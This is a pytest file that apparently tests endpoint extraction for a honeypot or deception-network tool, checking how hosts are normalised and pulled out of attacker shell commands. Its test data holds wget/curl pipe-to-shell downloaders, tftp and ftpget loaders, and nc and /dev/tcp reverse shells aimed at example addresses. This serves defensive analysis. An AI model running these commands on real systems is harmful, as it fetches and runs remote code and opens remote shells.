import pytest

from decnet.ingest.endpoints import (
    endpoint_from_url,
    endpoints_from_command,
    make_endpoint,
    normalise_host,
)


def values(command: str) -> list[str]:
    return [endpoint.value for endpoint in endpoints_from_command(command)]


def test_url_host_lower_cased_and_default_port_dropped() -> None:
    endpoint = endpoint_from_url("HTTP://Evil.Example.COM:80/x.sh")
    assert endpoint is not None
    assert endpoint.value == "evil.example.com"


def test_url_keeps_non_default_port() -> None:
    endpoint = endpoint_from_url("http://198.51.100.99:6636/bins.sh")
    assert endpoint is not None
    assert endpoint.value == "198.51.100.99:6636"


def test_https_default_port_dropped() -> None:
    endpoint = endpoint_from_url("https://example.net:443/a")
    assert endpoint is not None
    assert endpoint.value == "example.net"


def test_internationalised_host_becomes_idna() -> None:
    assert normalise_host("bücher.example") == "xn--bcher-kva.example"


def test_trailing_dot_removed() -> None:
    assert normalise_host("Example.ORG.") == "example.org"


def test_path_is_not_an_endpoint() -> None:
    assert endpoint_from_url("/dev/null") is None


def test_code_forge_marked_public() -> None:
    endpoint = endpoint_from_url("https://raw.githubusercontent.com/u/r/main/x.sh")
    assert endpoint is not None
    assert endpoint.public


def test_plain_host_not_public() -> None:
    endpoint = make_endpoint("c2.example.net", 8080)
    assert endpoint is not None
    assert not endpoint.public


def test_loopback_is_not_an_endpoint() -> None:
    assert make_endpoint("127.0.0.1", 80) is None


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh", ["198.51.100.9"]),
        ("wget 198.51.100.9/bins.sh -O- | sh", ["198.51.100.9"]),
        ("busybox wget http://Loader.Example.com:8080/a", ["loader.example.com:8080"]),
        ("curl -fsSL c2.example.net/i.sh | bash", ["c2.example.net"]),
        ("tftp -g -r m.sh 203.0.113.77", ["203.0.113.77"]),
        ("busybox tftp 203.0.113.78 -c get t.sh", ["203.0.113.78"]),
        (
            "ftpget -v -u anonymous -p anonymous -P 2121 203.0.113.79 a.sh a.sh",
            ["203.0.113.79:2121"],
        ),
        ("nc 198.51.100.12 4444 -e /bin/sh", ["198.51.100.12:4444"]),
        ("bash -i >& /dev/tcp/198.51.100.13/9001 0>&1", ["198.51.100.13:9001"]),
        ("scp root@files.example.org:/x /tmp/x", ["files.example.org"]),
        ("echo 203.0.113.90 >> /etc/hosts", ["203.0.113.90"]),
        ("echo 10.0.0.1 127.0.0.1", []),
        ("uname -a", []),
    ],
)
def test_endpoints_from_command(command: str, expected: list[str]) -> None:
    assert values(command) == expected
